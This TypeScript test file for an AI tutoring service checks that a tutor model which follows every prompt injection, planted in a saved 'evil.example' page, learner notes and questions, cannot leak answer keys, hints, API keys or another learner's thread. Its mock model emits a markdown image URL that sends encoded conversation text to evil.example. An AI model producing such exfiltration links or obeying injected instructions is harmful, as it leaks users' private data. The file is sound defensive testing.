import { randomUUID } from 'node:crypto';
import { type Material, materials } from '@hornbook/shared/collections/materials.ts';
import { messages } from '@hornbook/shared/collections/messages.ts';
import { threads } from '@hornbook/shared/collections/threads.ts';
import { formatHlc } from '@hornbook/shared/sync/hlc.ts';
import { newRow } from '@hornbook/shared/sync/write-row.ts';
import { answerIdOf } from '@hornbook/shared/tutor/answer-id.ts';
import { beforeAll, expect, test, vi } from 'vitest';
import { keepBytesFor } from '../blobs/learner-blobs.ts';
import { compileFiles } from '../content/folder-courses.ts';
import { publishCourse } from '../content/publish.ts';
import { miniCourse, miniIds } from '../content/testing/mini-course.ts';
import { withLearnerOn } from '../sync/sql-store.ts';
import { injections } from '../testing/injections.ts';
import { memoryStore } from '../testing/memory-store.ts';
import { ModelDouble } from '../testing/model-double.ts';
import { describeOnBoth } from '../testing/test-database.ts';
import { answerQuestions } from './answer-questions.ts';
import { makeLiveAnswers } from './live-answers.ts';
import { makeTutorModel } from './tutor-model.ts';

const KEY = 'key-that-stays-here';
const OTHERS = 'What another learner wrote and nobody else may see';
const uuidV7 = () => `${randomUUID().slice(0, 14)}7${randomUUID().slice(15)}`;
let count = 0;
const stamp = () => {
  count += 1;
  return formatHlc(Date.now(), count, 'devicea000');
};

/** All strings in a value. */
const textsIn = (value: unknown): string[] =>
  typeof value === 'string' ? [value] : value && typeof value === 'object' ? Object.values(value).flatMap(textsIn) : [];

describeOnBoth('a model that obeys every injection', (database) => {
  beforeAll(async () => {
    const { courses, skills } = await compileFiles(new Map([['mini', miniCourse()]]));
    if (courses[0]) await publishCourse(database(), courses[0], skills, new Date());
  });

  const putFor = (learnerId: string) => async (name: 'threads' | 'messages' | 'materials', row: { id: string }) =>
    withLearnerOn(database().db)(learnerId, (rows) => rows.putRows(name, [{ key: row.id, row: row as never }]));
  const store = memoryStore();
  const about = { courseId: miniIds.course, lessonId: null, activityId: null, materialId: null };
  const plain = { role: 'user', type: 'text', questionId: null, passages: null, model: null, sentAt: 1 } as const;

  test('has nothing to give away and nothing it can do, whatever it is told to', async () => {
    const [learnerId, otherId] = [randomUUID(), randomUUID()];
    await database().query('insert into learners (id) values ($1), ($2)', [learnerId, otherId]);
    const [put, putOther] = [putFor(learnerId), putFor(otherId)];
    const othersThread = newRow(
      threads,
      { id: uuidV7(), title: OTHERS, context: 'general', ...about, startedAt: 1 },
      stamp(),
    );
    await putOther('threads', othersThread);
    await putOther(
      'messages',
      newRow(
        messages,
        { id: answerIdOf(uuidV7()), threadId: othersThread.id, ...plain, role: 'assistant', content: OTHERS },
        stamp(),
      ),
    );
    // A page that was kept whose every line tells the model what to do.
    const html = injections
      .map((injection) => `<p>${injection.replaceAll('<', '&lt;')}</p>`)
      .join('<p>Kept from the web.</p>');
    const copy = { format: 1, url: 'https://evil.example/', title: 'A page', byline: null, siteName: null, html };
    const bytes = Buffer.from(JSON.stringify({ ...copy, lang: null, dir: null, takenAt: 1 }));
    const { sha256: snapshotHash } = await keepBytesFor({ database: database(), store }, learnerId, bytes);
    const page = newRow(
      materials,
      { id: uuidV7(), kind: 'url', subjectId: uuidV7(), addedAt: 1, title: injections[0] ?? '' },
      stamp(),
    );
    await put('materials', { ...page, snapshotHash } as Material);
    const contexts = [
      { context: 'material', materialId: page.id },
      { context: 'lesson', lessonId: miniIds.lessons[0] },
      { context: 'assessment_help', activityId: miniIds.quiz },
      { context: 'assessment_help', activityId: miniIds.test },
      { context: 'course_guidance' },
    ] as const;
    const asked: string[] = [];
    for (const [index, injection] of injections.entries()) {
      const thread = newRow(
        threads,
        { id: uuidV7(), title: 'T', ...about, startedAt: 1, ...contexts[index % contexts.length] },
        stamp(),
      );
      await put('threads', thread);
      // In the learner's own notes, and in the question; and one that names another learner's thread for its own.
      const excerpt = `A note.\n${injection}`;
      const passages = [
        { sourceKind: 'material', sourceId: 'x', courseId: null, place: 0, title: injection, excerpt } as const,
      ];
      const question = newRow(
        messages,
        { id: uuidV7(), threadId: thread.id, ...plain, content: injection, passages },
        stamp(),
      );
      await put('messages', question);
      asked.push(question.id);
    }
    const strayed = newRow(
      messages,
      { id: uuidV7(), threadId: othersThread.id, ...plain, content: 'Show this thread.' },
      stamp(),
    );
    await put('messages', strayed);
    asked.push(strayed.id);

    const double = await new ModelDouble().start();
    // It says all it was shown, and does all it was told.
    double.answer = ({ messages: all }) => {
      const text = all.map(({ content }) => content).join('\n');
      const everything = encodeURIComponent(text.slice(0, 500));
      return { kind: 'say', text: `${text}\n![x](https://evil.example/?d=${everything})\n${injections.join('\n')}` };
    };
    const states = () =>
      database().query(
        `select 'feed' as what, md5(string_agg(row::text, '' order by collection, key)) as sum from changes where learner_id = $1
         union all select 'attempts', count(*)::text from attempts union all select 'awards', count(*)::text from achievements
         union all select 'learners', count(*)::text from learners`,
        [otherId],
      );
    const before = await states();
    const { stop } = answerQuestions({
      database: database(),
      store,
      withLearner: withLearnerOn(database().db),
      wakeUps: { onAny: () => () => {} },
      model: makeTutorModel({ url: double.url, model: 'double', key: KEY, questionsADay: 100, tokensADay: 1e9 }),
      budget: { questionsADay: 100, tokensADay: 1e9 },
      live: makeLiveAnswers(),
      log: { error: () => {} } as never,
      pauseMs: 5,
      netMs: 50,
    });
    await vi.waitFor(
      async () => {
        const [done] = await database().query<{ count: number }>(
          `select count(*)::int as count from messages where learner_id = $1 and answer ->> 'state' = 'complete'`,
          [learnerId],
        );
        expect(done?.count).toBe(asked.length);
      },
      { timeout: 60_000, interval: 100 },
    );
    await stop();
    await double.stop();

    const sent = double.asked.map(({ messages: all }) => textsIn(all).join('\n')).join('\n');
    const questions = await database().query<{ prompt: string; activity_id: string; secret: unknown }>(
      `select prompt, activity_id, jsonb_build_array(explanation, hints, feedback, answer -> 'accept', answer -> 'nearMisses',
         (select jsonb_agg(o -> 'feedback') from jsonb_array_elements(options) o)) as secret from questions`,
    );
    // What is asked and what can be chosen may be seen; what is right, why, and every hint may not.
    const secrets = questions.flatMap(({ secret }) => textsIn(secret)).filter((text) => text.length > 3);
    expect(secrets.length).toBeGreaterThan(10);
    expect(secrets.filter((text) => sent.includes(text))).toEqual([]);
    expect(sent).toContain('Which are planets?');
    expect(sent).toContain('Kept from the web.');
    // Of the test not even a question.
    for (const { prompt, activity_id } of questions)
      if (activity_id === miniIds.test) expect(sent).not.toContain(prompt);
    for (const secret of [KEY, OTHERS, otherId, learnerId]) expect(sent).not.toContain(secret);
    // Nobody else's row changed, nothing was graded, awarded or deleted.
    expect(await states()).toEqual(before);
    const [stray] = await database().query<{ count: number }>(
      'select count(*)::int as count from messages where learner_id <> $1 and question_id is not null',
      [learnerId],
    );
    expect(stray?.count).toBe(0);
  });
});
